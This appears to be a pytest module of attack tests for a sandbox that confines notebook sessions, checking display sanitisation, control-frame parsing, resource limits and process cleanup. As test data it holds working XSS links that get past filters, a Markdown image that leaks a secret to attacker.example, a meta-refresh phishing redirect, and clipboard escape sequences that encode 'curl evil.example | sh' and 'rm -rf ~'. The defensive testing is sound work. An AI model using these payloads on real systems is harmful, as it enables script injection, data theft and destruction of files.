"""Attacks by a hostile confined *session* (`PythonSession`) on the trusted side.

The child is assumed to be fully hostile: a cell may write any bytes to its control socket
(fd 3), its stdout/stderr, ignore or block SIGINT, fork, start threads, close descriptors.
Each test is one attack, and would fail if the defence it meets were removed. Several were
findings of a review, fixed after they were written as tests: a refresh that navigated the
isolated frame to any site, Markdown images and links past the checks, a child that stopped
reading its socket and held the caller, a session reported ended that ran on, budgets that
nothing watched between cells, lone surrogates that raised in the kernel, escape sequences in
the streams, a clear that took the kernel's gauges, prompts not marked as the sandbox's.

Most tests drive `SandboxManager` directly; the few that need the notebook magics use one
real kernel (tests/notebook/conftest.py's harness) for the whole module.
"""

from __future__ import annotations

import contextlib
import html.parser
import importlib.util
import json
import os
import re
import signal
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from sandbox_kernel_ext import CapabilityDeclaration, ResourceLimits, SandboxManager
from sandbox_kernel_ext.runner.linux import landlock
from sandbox_kernel_ext.runner.trusted.control import (
    _LINE_CAP,
    MAX_DISPLAY_BYTES_PER_CELL,
    MAX_FRAME_BYTES,
)
from sandbox_kernel_ext.runner.trusted.charts import CHART_NOTES
from sandbox_kernel_ext.runner.trusted.display import MAX_BUNDLE_BYTES, WIDGET_NOTE
from sandbox_kernel_ext.runner.trusted.monitor import sample_tree
from sandbox_kernel_ext.runner.trusted.session import PythonSession

from interfaces import sandbox_session

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux") or landlock.landlock_abi() < 1, reason="needs Landlock"
)

LIVENESS = 20.0  # bound on every wait for something that should happen (never a speed claim)

# Cell prelude: a raw handle on the control socket, to write frames the child library never
# would (the trusted side must assume any bytes).
RAW = textwrap.dedent("""\
    import os as _os, socket as _socket, json as _json
    _raw = _socket.socket(fileno=_os.dup(3))
    def frame(d):
        _raw.sendall((_json.dumps(d) + '\\n').encode())
    def raw(b):
        _raw.sendall(b)
""")


def _policy(**limits: Any) -> CapabilityDeclaration:
    return CapabilityDeclaration(resource_limits=ResourceLimits(**limits))


def session(manager: SandboxManager, **limits: Any) -> contextlib.AbstractContextManager[PythonSession]:
    """A session in a sandbox of its own, with these resource limits."""
    return sandbox_session(manager, _policy(**limits))


def wait_until(check: Any, timeout: float = LIVENESS, pause: float = 0.05) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(pause)


def tree_pids(pid: int) -> list[int]:
    try:
        root = psutil.Process(pid)
        return [pid, *(p.pid for p in root.children(recursive=True))]
    except psutil.Error:
        return []


def running(pids: list[int]) -> list[int]:
    alive = []
    for pid in pids:
        try:
            if psutil.Process(pid).status() != psutil.STATUS_ZOMBIE:
                alive.append(pid)
        except psutil.Error:
            pass
    return alive


def ended_by_protocol(result: Any, s: PythonSession) -> None:
    """The session ended with a clear reason (not an exception on the trusted side)."""
    assert result.killed is not None and result.killed.startswith("session ended"), result
    assert "broke its control protocol" in result.killed, result.killed
    assert not s.alive


# =============================================================================================
# Findings: display output that reaches the notebook page
# =============================================================================================

def _markdown_links(markdown: str) -> list[str]:
    """Every href/src a CommonMark renderer makes of `markdown`, without URL sanitizing
    (as JupyterLab's marked renders trusted output: verified in JupyterLab 4.6 + Chromium)."""
    mistune = pytest.importorskip("mistune")  # nbconvert's markdown parser
    renderer = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    rendered = mistune.create_markdown(renderer=renderer)(markdown)
    return re.findall(r'(?:href|src)="([^"]*)"', rendered)


def _shown(s: PythonSession, bundle: dict[str, Any]) -> dict[str, Any]:
    result = s.run_cell(f"display({bundle!r}, raw=True)")
    assert result.killed is None and result.error is None, result
    (output,) = result.outputs
    return output["data"]


JS_MARKDOWN = {
    # _markdown_is_inert runs before display_text: the NUL hides "](" from the check and is
    # then removed, making the link.
    "nul-between-bracket-and-paren": "[click]\x00(javascript:alert(document.domain))",
    # A link reference definition inside a block quote or a list item is still a definition
    # (CommonMark); _LINK_DEFINITION only looks at lines starting with "[".
    "definition-in-block-quote": "> [x]: javascript:alert(document.domain)\n\n[click][x]",
    "definition-in-list-item": "- [x]: javascript:alert(document.domain)\n\n[click][x]",
    # An escaped "]" in the label: [^\]]+ stops at it, so the definition is not seen.
    "escaped-bracket-in-label": "[a\\]b]: javascript:alert(document.domain)\n\n[click][a\\]b]",
    # A NUL before the definition's "[" hides it, and display_text removes the NUL.
    "nul-before-definition": "\x00[x]: javascript:alert(document.domain)\n\n[click][x]",
}


@pytest.mark.parametrize("markdown", list(JS_MARKDOWN.values()), ids=list(JS_MARKDOWN))
def test_markdown_check_bypass_makes_a_javascript_link(manager: SandboxManager,
                                                       markdown: str) -> None:
    with session(manager) as s:
        data = _shown(s, {"text/markdown": markdown, "text/plain": "p"})
    links = _markdown_links(data.get("text/markdown", ""))
    assert not [u for u in links if u.strip().lower().startswith("javascript:")], links


def test_latex_check_bypass_with_a_control_character(manager: SandboxManager) -> None:
    with session(manager) as s:
        data = _shown(s, {"text/latex": "$\\h\x00ref{javascript:alert(1)}{click}$",
                          "text/plain": "p"})
    assert "\\href" not in data.get("text/latex", ""), data


def test_markdown_image_fetches_a_remote_url_without_a_click(manager: SandboxManager) -> None:
    with session(manager) as s:
        s.run_cell("secret = 'the-data-the-policy-keeps-in'")
        result = s.run_cell("display({'text/markdown': "
                            "f'![x](https://attacker.example/leak?d={secret})'}, raw=True)")
    markdown = result.outputs[0]["data"].get("text/markdown", "")
    remote = [u for u in _markdown_links(markdown) if re.match(r"(https?:)?//", u)]
    assert remote == [], remote


class _Document(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.script_text.append(data)


def _parse(markup: str) -> _Document:
    document = _Document()
    document.feed(markup)
    document.close()
    return document


def test_html_meta_refresh_navigates_the_isolated_frame(manager: SandboxManager) -> None:
    markup = ('<meta http-equiv="refresh" content="0;url=https://attacker.example/phish">'
              '<p>Approval needed</p>')
    with session(manager) as s:
        data = _shown(s, {"text/html": markup})
    (frame,) = [attrs for tag, attrs in _parse(data["text/html"]).tags if tag == "iframe"]
    inner = _parse(frame["srcdoc"] or "")
    refreshes = [a for tag, a in inner.tags
                 if tag == "meta" and (a.get("http-equiv") or "").lower() == "refresh"]
    scripts_allowed = "allow-scripts" in (frame.get("sandbox") or "").split()
    # Either the frame may not run automatic features, or no refresh reaches it.
    assert not (refreshes and scripts_allowed), (frame.get("sandbox"), refreshes)


def test_display_cap_bounds_what_the_trusted_side_keeps(manager: SandboxManager) -> None:
    with session(manager) as s:
        result = s.run_cell(f"blob = \"'\" * ({MAX_BUNDLE_BYTES} - 100)\n"
                            "for _ in range(9):\n"
                            "    display({'text/html': blob}, raw=True)", timeout=60)
        assert result.killed is None, result.killed
    kept = sum(len(o["data"].get("text/html", "")) for o in result.outputs)
    assert kept <= MAX_DISPLAY_BYTES_PER_CELL, f"{kept / MAX_DISPLAY_BYTES_PER_CELL:.1f}x"


# =============================================================================================
# Findings: the trusted side's liveness and the session's budgets
# =============================================================================================

def test_child_not_reading_its_socket_cannot_hang_run_cell(manager: SandboxManager) -> None:
    code = RAW + textwrap.dedent("""\
        import time
        raw(b''.join((_json.dumps({'type': 'input', 'id': 10**6 + i, 'prompt': 'p',
                                   'password': False}) + '\\n').encode() for i in range(4000)))
        time.sleep(10**6)
    """)
    returned = threading.Event()
    stopped: list[bool] = []
    armed = [True]

    def on_sigint(signum: int, frame: Any) -> None:
        if armed[0]:
            raise KeyboardInterrupt

    def stop_button() -> None:  # what a person does when the cell never ends
        if not returned.wait(10):
            stopped.append(True)
            signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)

    previous = signal.signal(signal.SIGINT, on_sigint)
    watchdog = threading.Thread(target=stop_button, daemon=True)
    try:
        with session(manager) as s:
            watchdog.start()
            try:
                result = s.run_cell(code, timeout=1)  # the monitor ends it within ~1.25 s
            except KeyboardInterrupt:
                result = None
            finally:
                returned.set()
                watchdog.join(LIVENESS)
    finally:
        armed[0] = False
        signal.signal(signal.SIGINT, previous)
    assert not stopped, "run_cell(timeout=1) still blocked after 10 s; only an interrupt ended it"
    assert result is not None and result.killed is not None


def test_session_reported_ended_is_really_gone(manager: SandboxManager) -> None:
    code = textwrap.dedent("""\
        import os, time
        null = os.open('/dev/null', os.O_WRONLY)
        os.dup2(null, 1); os.dup2(null, 2); os.close(3)
        while True:
            time.sleep(1)
    """)
    with session(manager) as s:
        pid = s.pid
        result = s.run_cell(code, timeout=2)
        assert result.killed is not None and "session ended" in result.killed
        assert not s.alive
        leftover = wait_until(lambda: not running([pid]), timeout=3)
        try:
            assert leftover, f"session pid {pid} still runs after the session was reported ended"
        finally:
            for p in running([pid]):
                os.kill(p, signal.SIGKILL)


_HOG_MEMORY = textwrap.dedent("""\
    import os, threading, time
    def hog():
        time.sleep(0.3)   # after the cell ended
        for _ in range(2):
            if os.fork() == 0:
                break
        blob = b'\\1' * (150 * 1024 * 1024)
        while True:
            time.sleep(1)
    threading.Thread(target=hog, daemon=True).start()
""")


def test_memory_between_cells_is_limited(manager: SandboxManager) -> None:
    limit = 64
    with session(manager, max_memory_mb=limit, max_processes=16) as s:
        pid = s.pid
        assert s.run_cell(_HOG_MEMORY).killed is None
        rss = lambda: (sample_tree(psutil.Process(pid)) or (0, 0, 0))[1]  # noqa: E731
        over = wait_until(lambda: not s.alive or rss() > 4 * limit)
        assert over or not s.alive, "the hog never grew (test broken?)"
        # A defence would end the session once it is over its limit.
        assert wait_until(lambda: not s.alive, timeout=3), (
            f"session holds {rss():.0f} MB with max_memory_mb={limit}, no cell running")


def test_cpu_between_cells_is_limited(manager: SandboxManager) -> None:
    limit = 1.0
    code = ("import threading, time\n"
            "def spin():\n    time.sleep(0.2)\n    while True: pass\n"
            "threading.Thread(target=spin, daemon=True).start()")
    with session(manager, max_cpu_seconds=limit) as s:
        pid = s.pid
        start = (sample_tree(psutil.Process(pid)) or (0, 0, 0))[0]
        assert s.run_cell(code).killed is None
        cpu = lambda: (sample_tree(psutil.Process(pid)) or (start, 0, 0))[0] - start  # noqa: E731
        wait_until(lambda: not s.alive or cpu() > 3 * limit)
        assert wait_until(lambda: not s.alive, timeout=2), (
            f"session spent {cpu():.1f} CPU s with max_cpu_seconds={limit}, no cell running")


def test_stream_text_has_no_terminal_commands(manager: SandboxManager) -> None:
    streamed: list[str] = []
    code = ("import sys\n"
            "print('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b]0;title\\x07ok')\n"
            "print('\\x1b]52;c;cm0gLXJmIH4=\\x07', file=sys.stderr)")
    with session(manager) as s:
        result = s.run_cell(code, on_output=lambda name, text: streamed.append(text))
    assert result.killed is None and "ok" in result.stdout
    assert "\x1b]" not in "".join(streamed) + result.stdout + result.stderr


# =============================================================================================
# Holds: the control channel's parsing
# =============================================================================================

HOSTILE_LINES = {
    "deep-json": b'{"type":"usage","tokens":' + b"[" * 200_000 + b"]" * 200_000 + b"}\n",
    "huge-integer": b'{"type":"usage","tokens":' + b"9" * 5000 + b',"cost":0}\n',
    "nan-cost": b'{"type":"usage","tokens":0,"cost":NaN}\n',
    "infinite-tokens": b'{"type":"usage","tokens":1e400,"cost":0}\n',
    "bad-utf8": b'{"type":"usage","tokens":0,"cost":0,"x":"\xff"}\n',
    "not-an-object": b"[1,2,3]\n",
    "unknown-type-nested": b'{"type":[[[["x"]]]]}\n',
    "oversized-usage": b'{"type":"usage","tokens":0,"cost":0,"pad":"' + b"a" * MAX_FRAME_BYTES
                       + b'"}\n',
    "display-wrong-shape": b'{"type":"display","data":{"text/html":["<script>"]},'
                           b'"metadata":{},"display_id":null,"update":false}\n',
    "update-without-id": b'{"type":"display","data":{"text/plain":"x"},"metadata":{},'
                         b'"display_id":null,"update":true}\n',
    "done-of-another-cell": b'{"type":"done","cell":999,"status":"ok","values":{},'
                            b'"error":null}\n',
    "input-prompt-too-long": b'{"type":"input","id":99,"prompt":"' + b"p" * 5000
                             + b'","password":false}\n',
    "input-password-not-bool": b'{"type":"input","id":99,"prompt":"p","password":"yes"}\n',
    "second-result": b'{"type":"result","data":{"text/plain":"1"},"metadata":{}}\n'
                     b'{"type":"result","data":{"text/plain":"2"},"metadata":{}}\n',
}


@pytest.mark.parametrize("line", list(HOSTILE_LINES.values()), ids=list(HOSTILE_LINES))
def test_hostile_frame_ends_the_session_with_a_reason(manager: SandboxManager,
                                                      line: bytes) -> None:
    with session(manager) as s:
        result = s.run_cell(RAW + f"raw({line!r})\nimport time\ntime.sleep(30)", timeout=20)
        ended_by_protocol(result, s)


def test_line_without_end_over_the_cap_ends_the_session(manager: SandboxManager) -> None:
    with session(manager) as s:
        result = s.run_cell(RAW + f"raw(b'{{\"type\":\"usage\"' + b' ' * {_LINE_CAP + 10})\n"
                            "import time\ntime.sleep(30)", timeout=20)
        ended_by_protocol(result, s)
        assert "control frame is over" in result.killed


def _display_of_length(length: int) -> str:
    """Cell code that sends one display frame whose line (without its newline) is `length`."""
    return RAW + textwrap.dedent(f"""\
        base = _json.dumps({{'type': 'display', 'data': {{'text/plain': ''}}, 'metadata': {{}},
                             'display_id': None, 'update': False}})
        line = base.replace('""', '"' + 'a' * ({length} - len(base)) + '"', 1)
        assert len(line) == {length}
        raw(line.encode() + b'\\n')
    """)


def test_display_frame_exactly_at_the_cap_passes_one_byte_more_ends(
        manager: SandboxManager) -> None:
    cap = MAX_BUNDLE_BYTES + MAX_FRAME_BYTES
    with session(manager) as s:
        result = s.run_cell(_display_of_length(cap), timeout=20)
        assert result.killed is None, result.killed
        assert [o["kind"] for o in result.outputs] == ["display"]
        assert s.alive
    with session(manager) as s:
        result = s.run_cell(_display_of_length(cap + 1) + "import time\ntime.sleep(30)",
                            timeout=20)
        ended_by_protocol(result, s)
        assert "over" in result.killed


def test_frame_split_across_reads_arrives_whole(manager: SandboxManager) -> None:
    frame = json.dumps({"type": "display", "data": {"text/plain": "whole " * 50000},
                        "metadata": {}, "display_id": None, "update": False}) + "\n"
    data = frame.encode()
    halves = [data[:7], data[7:70_001], data[70_001:]]
    code = RAW + "import time\n" + "".join(f"raw({part!r})\ntime.sleep(0.15)\n"
                                           for part in halves)
    with session(manager) as s:
        result = s.run_cell(code, timeout=20)
        assert result.killed is None, result.killed
        (output,) = result.outputs
        assert output["data"]["text/plain"] == "whole " * 50000
        assert s.alive


def test_only_the_output_names_asked_for_cross(manager: SandboxManager) -> None:
    """A forged variables frame and a forged done frame (this cell's number) carry other names:
    only the asked name crosses."""
    code = RAW + textwrap.dedent("""\
        frame({'type': 'variables', 'values': {'asked': 1, 'get_ipython': 2, 'os': 3}})
        frame({'type': 'done', 'cell': 41, 'status': 'ok', 'error': None,
               'values': {'asked': 'forged', 'not_asked': 'x', '__builtins__': {}}})
        import time
        time.sleep(30)
    """)
    with session(manager) as s:
        result = s.run_cell(code, outputs=["asked"], cell=41, timeout=20)
    assert result.variables == {"asked": "forged"}


def test_display_ids_are_namespaced_per_session(manager: SandboxManager) -> None:
    """The gauges and approval widgets use display ids too: a sandbox's id never equals one it
    chose, and two sessions' same id differ."""
    code = ("display({'text/plain': 'a'}, raw=True, display_id='gauges')\n"
            "display({'text/plain': 'b'}, raw=True, display_id='gauges', update=True)")
    ids = []
    for _ in range(2):
        with session(manager) as s:
            result = s.run_cell(code)
            assert result.killed is None
            ids.append({o["display_id"] for o in result.outputs})
    (first,), (second,) = ids
    assert first != "gauges" and first.startswith("sandbox-") and first != second


# =============================================================================================
# Holds: what a display may become
# =============================================================================================

def test_html_cannot_leave_its_frame(manager: SandboxManager) -> None:
    markup = '"></iframe><script>parent.PWNED=1</script><iframe srcdoc="'
    with session(manager) as s:
        data = _shown(s, {"text/html": markup, "text/plain": "p"})
    document = _parse(data["text/html"])
    # pre and p: the text form inside the frame element, raw text to a browser (this parser
    # reads them as elements), shown only where a sanitiser removes the frame.
    assert [tag for tag, _ in document.tags] == ["iframe", "pre", "p", "script"]
    assert "PWNED" not in "".join(document.script_text)
    frame = document.tags[0][1]
    # The markup stays inside the frame's document (its script and nested frame dropped).
    assert frame["sandbox"] == "allow-scripts" and '"&gt;' in (frame["srcdoc"] or "")
    assert "PWNED" not in (frame["srcdoc"] or "")
    inner = _parse(frame["srcdoc"] or "")
    assert inner.tags[:3] == [("html", {}), ("head", {}), ("meta", {"charset": "utf-8"})]
    assert inner.tags[3][1].get("http-equiv") == "Content-Security-Policy"


BOKEH_NOTE = CHART_NOTES["application/vnd.bokehjs_"]


def test_svg_javascript_widgets_and_metadata_are_defused(manager: SandboxManager) -> None:
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
           '<script>alert(2)</script></svg>')
    bundle = {
        "image/svg+xml": svg,
        "application/javascript": "alert(3)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
        # (a plotly figure would be drawn in a frame: tests/runner/test_chart_rules.py)
        "application/vnd.bokehjs_exec.v0+json": {"id": "x"},
        "image/png": 'AAAA" onerror="alert(4)',
        "text/plain": "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2Jplain\u202etxt",
    }
    metadata = {"isolated": False, "application/json": {"expanded": True},
                "image/png": {"width": 10, "height": '20" onload="x', "unconfined": True},
                "text/html": {"trusted": True}}
    with session(manager) as s:
        result = s.run_cell(f"display({bundle!r}, raw=True, metadata={metadata!r})")
    (output,) = result.outputs
    data = output["data"]
    assert set(data) == {"text/html", "text/plain"}, set(data)
    assert re.fullmatch(r'<img alt="[^"]*" src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+">',
                        data["text/html"])
    # No escape (ESC, BEL) nor bidi override survives: only printable leftovers.
    assert data["text/plain"] == ("]52;c;cm0gLXJmIH4=[2Jplaintxt\n" + BOKEH_NOTE + "\n"
                                  + WIDGET_NOTE)
    assert output["metadata"] == {}


def test_a_format_with_an_odd_name_is_dropped_and_the_session_lives_on(
        manager: SandboxManager) -> None:
    bundle = {"text/html;charset=utf-8": "<b>x</b>", "x" * 300: "y", "TEXT/HTML": "<b>",
              "application/vnd.holoviews_load.v0+json": "", "text/plain": "shown"}
    with session(manager) as s:
        first = s.run_cell(f"display({bundle!r}, raw=True)")
        second = s.run_cell("print('alive')")
    assert [o["data"] for o in first.outputs] == [{"text/plain": "shown"}], first.outputs
    assert second.stdout == "alive\n", second


def test_image_base64_is_checked_and_rewritten(manager: SandboxManager) -> None:
    bundle = {"image/png": "iVBO\nRw0K", "image/gif": "R0lGOD lh", "image/jpeg": "/9j/4A=="}
    with session(manager) as s:
        data = _shown(s, {**bundle, "text/plain": "p"})
    assert data["image/png"] == "iVBORw0K" and data["image/jpeg"] == "/9j/4A=="
    assert "image/gif" not in data  # a space is not base64


@pytest.mark.parametrize("markdown", [
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\\script:alert(1))",
    "[click][x]\n\n[x]: javascript:alert(1)",
    "[click][x]\n\n[x]:\n  javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
], ids=["inline", "spaced-mixed-case", "entity", "backslash", "definition",
        "definition-next-line", "raw-html", "autolink", "data-url-image"])
def test_markdown_links_that_run_script_are_dropped(manager: SandboxManager,
                                                    markdown: str) -> None:
    with session(manager) as s:
        data = _shown(s, {"text/markdown": markdown, "text/plain": "p"})
    assert "text/markdown" not in data and data["text/plain"] == "p"


def test_latex_that_makes_links_is_dropped(manager: SandboxManager) -> None:
    with session(manager) as s:
        for tex in ("$\\href{javascript:alert(1)}{x}$", "$\\HREF{javascript:alert(1)}{x}$",
                    "$\\def\\h{\\href}\\h{javascript:alert(1)}{x}$", "$\\unicode{x}$"):
            assert "text/latex" not in _shown(s, {"text/latex": tex, "text/plain": "p"}), tex


def test_error_report_text_is_cleaned(manager: SandboxManager) -> None:
    osc = "\x1b]52;c;cm0gLXJmIH4=\x07"
    code = RAW + textwrap.dedent(f"""\
        frame({{'type': 'done', 'cell': 5, 'status': 'error', 'values': {{}},
               'error': {{'ename': 'E{osc}', 'evalue': 'v{osc}\\u202e',
                          'frames': [{{'cell': 5, 'lineno': 1, 'name': 'f{osc}',
                                       'lines': [[1, 'x{osc}\x1b[2J']]}}] * 100}}}})
        import time
        time.sleep(30)
    """)
    with session(manager) as s:
        result = s.run_cell(code, cell=5, timeout=20)
    assert result.error is not None
    text = "\n".join(result.error["traceback"])
    assert "\x1b]" not in text and "\x07" not in text and "\u202e" not in text
    assert "\x1b[2J" not in text and set(re.findall(r"\x1b\[[0-9;]*m", text)) <= {
        "\x1b[0;31m", "\x1b[0;32m", "\x1b[0;36m", "\x1b[0m"}  # our own colours only
    assert len(result.error["traceback"]) <= 40 + 3


# =============================================================================================
# Holds: input(), interrupts, ends
# =============================================================================================

def test_input_prompt_is_cleaned_and_answers_reach_only_the_asker(
        manager: SandboxManager) -> None:
    asked: list[tuple[str, bool]] = []

    def answer(prompt: str, password: bool) -> str:
        asked.append((prompt, password))
        return "ada"

    code = "name = input('\\x1b[2K\\x1b]0;title\\x07who\\u202e? ')"
    with session(manager) as s:
        result = s.run_cell(code, outputs=["name"], on_input=answer)
        assert result.variables == {"name": "ada"}
        # A later cell without a callback gets no one's answer.
        later = s.run_cell("try:\n    n = input('again? ')\nexcept EOFError as e:\n"
                           "    n = 'EOF'", outputs=["n"])
        assert later.variables == {"n": "EOF"}
    assert asked == [("[sandbox] who? ", False)]


def _interrupt_when_ready(s: PythonSession, code: str) -> tuple[Any, list[int]]:
    """Run `code`; once it printed "ready", SIGINT this process (as the stop button does to a
    kernel). The result and the session's process tree at the interrupt."""
    ready = threading.Event()
    pids: list[int] = []

    def output(stream: str, text: str) -> None:
        if "ready" in text:
            ready.set()

    def interrupter() -> None:
        if ready.wait(LIVENESS):
            pids.extend(tree_pids(s.pid))
            os.kill(os.getpid(), signal.SIGINT)

    thread = threading.Thread(target=interrupter, daemon=True)
    thread.start()
    try:
        return s.run_cell(code, on_output=output, timeout=LIVENESS), pids
    finally:
        thread.join(LIVENESS)


@pytest.mark.parametrize("code", [
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint('ready', flush=True)\n"
    "while True: pass",
    "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})\n"
    "print('ready', flush=True)\nwhile True: pass",
    # 'ready' is printed inside the loop that swallows interrupts: printed before it, an
    # interrupt could land while the print was still flushing (seen in CI), outside the try.
    "import time\nready = False\nwhile True:\n    try:\n        if not ready:\n"
    "            print('ready', flush=True)\n            ready = True\n        time.sleep(10)\n"
    "    except KeyboardInterrupt:\n        pass",
    "import os, signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    "if os.fork() == 0:\n    print('ready', flush=True)\n    while True: pass\nos.wait()",
], ids=["ignored", "blocked", "swallowed", "forked"])
def test_interrupt_ends_a_cell_that_refuses_it(manager: SandboxManager, code: str) -> None:
    with session(manager) as s:
        s.interrupt_grace = 0.5
        result, pids = _interrupt_when_ready(s, code)
        assert result.killed is not None and "did not stop within" in result.killed, result
        assert not s.alive
        assert pids and wait_until(lambda: not running(pids), timeout=10), running(pids)


_DAEMON = textwrap.dedent("""\
    import os, signal, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    time.sleep(0.3)
""")


def test_close_leaves_no_process(manager: SandboxManager) -> None:
    with session(manager) as s:
        assert s.run_cell(_DAEMON).killed is None
        pids = wait_until(lambda: len(tree_pids(s.pid)) >= 2 and tree_pids(s.pid))
        assert len(pids) >= 2, pids
        s.close()
        assert wait_until(lambda: not running(pids), timeout=10), running(pids)
        with pytest.raises(Exception, match="ended"):
            s.run_cell("1")


def test_manager_close_leaves_no_process() -> None:
    manager = SandboxManager()
    try:
        s = manager.start_session(manager.create_sandbox(_policy()))
        assert s.run_cell(_DAEMON).killed is None
        pids = wait_until(lambda: len(tree_pids(s.pid)) >= 2 and tree_pids(s.pid))
        assert len(pids) >= 2, pids
    finally:
        manager.close()
    assert wait_until(lambda: not running(pids), timeout=10), running(pids)


# =============================================================================================
# In a real kernel: what the magics forward
# =============================================================================================

def _kernel_harness() -> Any:
    path = Path(__file__).resolve().parents[1] / "notebook" / "conftest.py"
    spec = importlib.util.spec_from_file_location("_session_attacks_kernel_harness", path)
    module = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def k() -> Iterator[Any]:
    harness = _kernel_harness()
    with harness.running_kernel() as kernel:
        kernel.run("%load_ext sandbox_kernel_ext\n%config SandboxMagics.policy = ''")
        try:
            yield kernel
        finally:
            kernel.settle()
            kernel.run("%unload_ext sandbox_kernel_ext")


def _cell(k: Any, code: str) -> str:
    msg_id = k.execute(textwrap.dedent(code).lstrip("\n"))
    k.wait_idle(msg_id)
    return msg_id


def test_lone_surrogate_in_a_display_is_shown_not_raised(k: Any) -> None:
    msg_id = _cell(k, """\
        %%sandbox --quiet --session surrogate
        display({'text/plain': 'a\\ud800b'}, raw=True)
        print('after')
    """)
    error = k.error(msg_id)
    assert error is None, (error["ename"], error["evalue"])


def _output_area(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """What a frontend's output area holds after `messages` (display/stream/clear_output)."""
    shown: list[dict[str, Any]] = []
    pending_clear = False
    for msg in messages:
        kind, content = msg["msg_type"], msg["content"]
        if kind == "clear_output":
            if content.get("wait"):
                pending_clear = True
            else:
                shown.clear()
        elif kind in ("display_data", "execute_result", "stream", "error"):
            if pending_clear:
                shown.clear()
                pending_clear = False
            shown.append(msg)
    return shown


def _is_gauges(msg: dict[str, Any]) -> bool:
    """The kernel's gauges: their line while a cell runs, or the live panel."""
    data = msg["content"].get("data", {})
    return msg["msg_type"] == "display_data" and (
        "application/vnd.jupyter.widget-view+json" in data
        or data.get("text/plain") == "Sandbox running…")


def test_sandbox_clear_output_leaves_the_kernels_gauges(k: Any) -> None:
    msg_id = _cell(k, "%%sandbox --session clearing\n" + RAW
                   + "frame({'type': 'clear_output', 'wait': False})\nprint('all is well')")
    messages = k.outputs(msg_id)
    assert any(_is_gauges(m) for m in messages), "no gauges displayed (test broken?)"
    assert any(_is_gauges(m) for m in _output_area(messages)), \
        "the gauges were cleared by the sandbox"


def test_input_prompt_says_it_comes_from_the_sandbox(k: Any) -> None:
    import queue

    msg_id = k.execute(textwrap.dedent("""\
        %%sandbox --quiet --session asking
        import getpass
        token = getpass.getpass('Jupyter server password (session expired): ')
    """))
    try:
        request = k.client.get_stdin_msg(timeout=LIVENESS)
    except queue.Empty:
        pytest.fail("no input_request")
    k.client.input("not-a-real-password")
    k.wait_idle(msg_id)
    content = request["content"]
    assert content["password"] is True
    assert "sandbox" in content["prompt"].lower(), content["prompt"]
